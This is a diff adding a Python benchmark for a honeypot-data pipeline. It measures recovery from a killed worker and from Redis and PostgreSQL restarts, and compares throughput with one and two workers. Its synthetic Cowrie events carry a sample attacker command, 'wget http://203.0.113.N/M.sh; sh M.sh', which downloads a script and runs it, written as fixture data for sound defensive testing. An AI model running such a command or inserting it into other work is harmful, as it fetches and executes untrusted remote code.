@@ -1,0 +1,296 @@
+"""Several workers on one store: what outages cost, and what a second worker gives.
+
+    python -m benchmarks.fleet outages [--hours 48] [--events 3000]
+    python -m benchmarks.fleet ratio [--hours 96] [--events 20000]
+
+Starts PostgreSQL, Redis, Azurite, Dagster's daemon and webserver, and workers, as `deploy/celery`
+sets them up, each with a working folder of its own. `outages` backfills from the UI's interface
+while a capture lands every five seconds, kills a worker, and restarts Redis and PostgreSQL. `ratio`
+does the same backfills with one worker and with two, each on one thread. Both end with the proof.
+Not here: the short version that tests run (`stingar_dagster_tests/fleet`).
+"""
+
+import argparse
+import contextlib
+import os
+import tempfile
+import threading
+import time
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Final
+
+from benchmarks.measuring import descendants
+from stingar_dagster.lake.publication import read_record
+from stingar_dagster.verify import verify
+from stingar_dagster_tests.fleet.machines import BOTH, Fleet, running_fleet
+from stingar_dagster_tests.support import capture, event
+
+HOUR: Final = timedelta(hours=1)
+LAND_EVERY_SECONDS: Final = 5.0
+DOWN_SECONDS: Final = 20.0
+PATIENCE: Final = 3600.0
+ASSETS: Final = ("landed_events", "quarantined_events", "cleaned_events")
+TEMPLATE: Final = datetime(2026, 1, 1, 0, tzinfo=UTC)
+HOURS_A_BACKFILL: Final = 12
+
+
+def main() -> None:
+    """Measure one of the two, and say what came out."""
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("what", choices=["outages", "ratio"])
+    parser.add_argument("--hours", type=int)
+    parser.add_argument("--events", type=int, help="in an hour")
+    options = parser.parse_args()
+    if options.what == "outages":
+        outages(options.hours or 48, options.events or 3000)
+    else:
+        ratio(options.hours or 96, options.events or 20_000)
+
+
+def this_hour() -> datetime:
+    return datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
+
+
+def key(hour: datetime) -> str:
+    return f"{hour:%Y-%m-%d-%H:%M}"
+
+
+def land_history(fleet: Fleet, hours: list[datetime], events: int) -> None:
+    """An hour's capture, for each hour from a partition of its own, so that no identity repeats."""
+    step = HOUR / (events + 1)
+    bodies = [
+        event(
+            TEMPLATE + index * step,
+            src_ip=f"198.51.100.{index % 250}",
+            src_port=1024 + index % 60_000,
+            dest_ip="192.0.2.10",
+            app="cowrie",
+            vendor_product="Cowrie",
+            signature="command attempted on cowrie honeypot",
+            severity="high",
+            tags=["beats_input_raw_event"],
+            command=f"wget http://203.0.113.{index % 200}/{index % 977}.sh; sh {index % 977}.sh",
+            loggedin=["root", f"{index % 4001}"],
+        )
+        for index in range(events)
+    ]
+    blob = capture(bodies, received=TEMPLATE)
+    for number, hour in enumerate(hours):
+        # As long as before, so the blocks stay as they are.
+        changed = blob.replace(f"{TEMPLATE:%Y-%m-%dT%H}".encode(), f"{hour:%Y-%m-%dT%H}".encode())
+        fleet.site.put_blob(changed, partition=100 + number, start=hour)
+        fleet.site.blobs.clear()
+
+
+class LiveTraffic:
+    """A capture every few seconds, and how long each took to be published."""
+
+    def __init__(self, fleet: Fleet) -> None:
+        self._fleet = fleet
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._land)
+        self.landed = 0
+        self.waits: list[float] = []
+
+    def __enter__(self) -> "LiveTraffic":
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._stop.set()
+        self._thread.join()
+
+    def _land(self) -> None:
+        waiting: list[tuple[int, float]] = []
+        hour = this_hour()
+        while not self._stop.wait(LAND_EVERY_SECONDS):
+            bodies = [event(hour + timedelta(seconds=s)) for s in range(10)]
+            begin = time.time()
+            self._fleet.site.put(bodies, start=hour, first=1 + self.landed)
+            self.landed += len(bodies)
+            waiting.append((self.landed, begin))
+            waiting = self._seen(waiting, hour)
+
+    def _seen(self, waiting: list[tuple[int, float]], hour: datetime) -> list[tuple[int, float]]:
+        lake = self._fleet.site.pipeline().lake
+        record = read_record(lake.store, lake.layout.hour_record("events", hour))
+        lines = record.rows if record is not None else 0
+        for count, begin in waiting:
+            # One event was there before the first.
+            if lines >= count + 1:
+                self.waits.append(time.time() - begin)
+        return [item for item in waiting if lines < item[0] + 1]
+
+
+def outages(hours: int, events: int) -> None:
+    """A backfill during live traffic, with a killed worker, and Redis and PostgreSQL restarted."""
+    begin = time.monotonic()
+
+    def say(text: str) -> None:
+        print(f"{time.monotonic() - begin:7.1f} s  {text}", flush=True)
+
+    with _fleet() as fleet:
+        fleet.daemon()
+        fleet.webserver()
+        fleet.worker("first-live", ["stingar-live"], 1)
+        fleet.worker("first-backfill", ["stingar-backfill"], 1)
+        fleet.worker("second-live", ["stingar-live"], 1)
+        fleet.worker("second-backfill", ["stingar-backfill"], 1)
+        _warm_up(fleet)
+        past = [this_hour() - 240 * HOUR + number * HOUR for number in range(hours)]
+        land_history(fleet, past, events)
+        with LiveTraffic(fleet) as live:
+            asked = time.monotonic()
+            backfill = fleet.backfill([key(hour) for hour in past], *ASSETS)
+            say(f"backfill of {hours} hours of {events:,} events asked for")
+            fleet.wait_until(lambda: bool(fleet.at_work(backfill)), "at work", PATIENCE)
+            run, machine = fleet.at_work(backfill)[0]
+            machine.kill()
+            say(f"{machine.name} killed in the middle of a run")
+            failed = fleet.wait_until(lambda: _status(fleet, run) == "FAILURE", "found", PATIENCE)
+            say(f"its run found and failed after {failed:.0f} s")
+            again = fleet.wait_until(
+                lambda: any(other != run for other, _ in fleet.at_work(backfill)), "again", PATIENCE
+            )
+            say(f"at work again after {failed + again:.0f} s")
+            machine.start()
+            _restart(fleet, "Redis", say)
+            _restart(fleet, "PostgreSQL", say)
+            fleet.wait_until(
+                lambda: fleet.status_of(backfill).startswith("COMPLETED"), "done", PATIENCE
+            )
+            say(f"{fleet.status_of(backfill)} after {time.monotonic() - asked:.0f} s")
+        stuck = fleet.wait_until(lambda: not fleet.unfinished(), "every run done", PATIENCE)
+        say(f"no run under way {stuck:.0f} s later")
+        _settle(fleet)
+        waits = sorted(live.waits)
+        if waits:
+            middle, worst = waits[len(waits) // 2], waits[-1]
+            say(f"live captures published after {middle:.0f} s (median), {worst:.0f} s (longest)")
+        expected = hours * events + live.landed + 1
+        _prove(fleet, expected, say)
+        statuses = [status for _, status, _ in fleet.runs()]
+        say(f"runs: { {status: statuses.count(status) for status in set(statuses)} }")
+
+
+def _restart(fleet: Fleet, which: str, say: object) -> None:
+    server = fleet.redis if which == "Redis" else fleet.postgres
+    server.stop()
+    time.sleep(DOWN_SECONDS)
+    server.start()
+    assert callable(say)
+    say(f"{which} was away for {DOWN_SECONDS:.0f} s")
+    time.sleep(DOWN_SECONDS)
+
+
+def ratio(hours: int, events: int) -> None:
+    """The same backfills by one worker and by two, in turn."""
+    seconds: dict[int, list[float]] = {1: [], 2: []}
+    for round_number, workers in enumerate((1, 2, 2, 1)):
+        with _fleet() as fleet:
+            fleet.environ["POLARS_MAX_THREADS"] = "1"
+            fleet.daemon()
+            fleet.webserver()
+            for number in range(workers):
+                fleet.worker(f"worker-{number}", BOTH, 1)
+            _warm_up(fleet)
+            past = [this_hour() - 240 * HOUR + number * HOUR for number in range(hours)]
+            land_history(fleet, past, events)
+            begin, load = time.monotonic(), _others(fleet)
+            for first in range(0, hours, HOURS_A_BACKFILL):
+                some = past[first : first + HOURS_A_BACKFILL]
+                fleet.backfill([key(hour) for hour in some], *ASSETS)
+            _wait_for_backfills(fleet, hours // HOURS_A_BACKFILL)
+            took = time.monotonic() - begin
+            others = (_others(fleet) - load) / took
+            seconds[workers].append(took)
+            rate = hours * events / took
+            print(
+                f"round {round_number + 1}, {workers} workers: {took:.0f} s, {rate:,.0f} events/s; "
+                f"others took {others:.2f} cores",
+                flush=True,
+            )
+            if round_number == 1:
+                _settle(fleet)
+                _prove(fleet, hours * events + 1, print)
+    least = {workers: min(times) for workers, times in seconds.items()}
+    print(f"throughput of two against one, best of two each: {least[1] / least[2]:.2f}")
+
+
+def _wait_for_backfills(fleet: Fleet, runs: int) -> None:
+    def are_done() -> bool:
+        (done,) = fleet.postgres.query(
+            "select count(*) from runs where status = 'SUCCESS' and run_id in "
+            "(select run_id from run_tags where key = 'dagster/backfill')",
+            "dagster",
+        )
+        return int(done[0]) >= runs
+
+    fleet.wait_until(are_done, "backfills done", PATIENCE)
+
+
+def _others(fleet: Fleet) -> float:
+    """Processor seconds that the machine spent on anything but this benchmark."""
+    with open("/proc/stat") as stat:
+        user, nice, system = (int(number) for number in stat.readline().split()[1:4])
+    ticks = os.sysconf("SC_CLK_TCK")
+    return (user + nice + system) / ticks - sum(map(_with_ended, descendants(os.getpid())))
+
+
+def _with_ended(pid: int) -> float:
+    """Processor seconds of a process and of those of its children that ended; 0 if it is gone."""
+    try:
+        fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
+    except OSError:
+        return 0.0
+    return sum(map(int, fields[11:15])) / os.sysconf("SC_CLK_TCK")
+
+
+def _status(fleet: Fleet, run: str) -> str:
+    return next((status for _, status, known in fleet.runs() if known == run), "")
+
+
+@contextlib.contextmanager
+def _fleet() -> Iterator[Fleet]:
+    """Servers; what is written goes with them."""
+    start = this_hour() - 480 * HOUR
+    with (
+        tempfile.TemporaryDirectory(prefix="stingar-fleet-") as folder,
+        running_fleet(Path(folder), f"{start:%Y-%m-%d}") as fleet,
+    ):
+        os.environ["AZURE_STORAGE_CONNECTION_STRING"] = fleet.azurite.connection_string
+        yield fleet
+
+
+def _warm_up(fleet: Fleet) -> None:
+    """Until one event of this hour went the whole way."""
+    fleet.site.put([event(this_hour())], start=this_hour())
+    fleet.wait_until(fleet.is_serving, "the UI", PATIENCE)
+    fleet.wait_until(lambda: len(fleet.site.events()) == 1, "the first event", PATIENCE)
+    fleet.wait_until(lambda: not fleet.unfinished(), "idle", PATIENCE)
+
+
+def _settle(fleet: Fleet) -> None:
+    """Until nothing is pending and nothing runs."""
+    for _ in range(3):
+        fleet.wait_until(lambda: not fleet.unfinished(), "idle", PATIENCE)
+        time.sleep(15)
+
+
+def _prove(fleet: Fleet, expected: int, say: object) -> None:
+    assert callable(say)
+    proof = verify(fleet.site.pipeline())
+    found = ", ".join(
+        f"{name} {proof.total(name):,}" for name in ("captured", "cleaned", "quarantined")
+    )
+    say(
+        f"verify: {'it holds' if proof.holds else 'IT DOES NOT HOLD'}; {found}; landed {expected:,}"
+    )
+    for problem in proof.problems[:5]:
+        say(f"  {problem}")
+
+
+if __name__ == "__main__":
+    main()
